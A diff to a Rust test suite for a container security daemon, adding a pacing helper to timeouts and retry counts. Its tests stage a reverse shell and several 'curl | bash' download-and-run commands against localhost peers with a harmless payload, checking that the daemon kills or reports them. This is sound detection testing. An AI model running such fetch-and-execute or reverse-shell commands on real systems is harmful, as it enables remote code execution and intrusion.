@@ -4,6 +4,7 @@
 use crate::container::{Container, Group};
 use crate::daemon::{Daemon, Settings, outcome};
 use crate::lab::Peer;
+use crate::pace;
 use anyhow::{Context, Result, ensure};
 use std::fs;
 use std::time::Duration;
@@ -45,7 +46,7 @@ fn reverse_shell(port: u16) -> String {
 /// Not one byte reaches the attacker, and nothing he typed is run.
 pub fn reverse_shell_killed_in_protect() -> Result<()> {
     let stage = stage("protect")?;
-    let peer = Peer::shell(stage.container.listen()?, COMMANDS, Duration::from_secs(3))?;
+    let peer = Peer::shell(stage.container.listen()?, COMMANDS, pace::wait(Duration::from_secs(3)))?;
     stage.container.run(&reverse_shell(peer.port))?;
     let alert = stage.daemon.await_alert("reverse_shell", stage.container.id())?;
     ensure!(outcome(&alert) == "killed", "outcome {}", outcome(&alert));
@@ -59,7 +60,7 @@ pub fn reverse_shell_killed_in_protect() -> Result<()> {
 /// The same attack works under `monitor`, which only tells: the test above tests something.
 pub fn reverse_shell_found_in_monitor() -> Result<()> {
     let stage = stage("monitor")?;
-    let peer = Peer::shell(stage.container.listen()?, COMMANDS, Duration::from_secs(3))?;
+    let peer = Peer::shell(stage.container.listen()?, COMMANDS, pace::wait(Duration::from_secs(3)))?;
     stage.container.run(&reverse_shell(peer.port))?;
     let alert = stage.daemon.await_alert("reverse_shell", stage.container.id())?;
     ensure!(outcome(&alert) == "observed", "outcome {}", outcome(&alert));
@@ -81,14 +82,15 @@ pub fn pipe_to_shell_never_runs() -> Result<()> {
 
     let stage = stage("protect")?;
     let peer = Peer::web(stage.container.listen()?, "touch /tmp/ran\n")?;
-    for round in 1..=TRIES {
+    let tries = pace::times(TRIES);
+    for round in 1..=tries {
         let script = match round % 3 {
             0 => format!("curl -s http://127.0.0.1:{}/x | cat | bash", peer.port),
             1 => format!("curl -s http://127.0.0.1:{}/x | bash", peer.port),
             _ => format!("curl -s http://127.0.0.1:{}/x | sh -s", peer.port),
         };
         stage.container.run(&script)?;
-        ensure!(!stage.has("/tmp/ran"), "the payload ran in round {round} of {TRIES}: {script}");
+        ensure!(!stage.has("/tmp/ran"), "the payload ran in round {round} of {tries}: {script}");
     }
     stage.daemon.await_alert("download_exec", stage.container.id())?;
     Ok(())
@@ -132,7 +134,7 @@ pub fn sourced_script_is_found() -> Result<()> {
     let peer = Peer::web(stage.container.listen()?, "touch /tmp/ran\n")?;
     stage.container.run(&format!("curl -s -o /tmp/logo3.jpg http://127.0.0.1:{}/logo3.jpg", peer.port))?;
     stage.container.run("tar tf - < /tmp/logo3.jpg; wc -c < /tmp/logo3.jpg; true")?;
-    std::thread::sleep(Duration::from_millis(300));
+    std::thread::sleep(pace::wait(Duration::from_millis(300)));
     let alerts = stage.daemon.alerts("download_exec", stage.container.id());
     ensure!(alerts.is_empty(), "data that is only read is no program: {alerts:?}");
     stage.container.run("bash -c '. /tmp/logo3.jpg; true'")?;
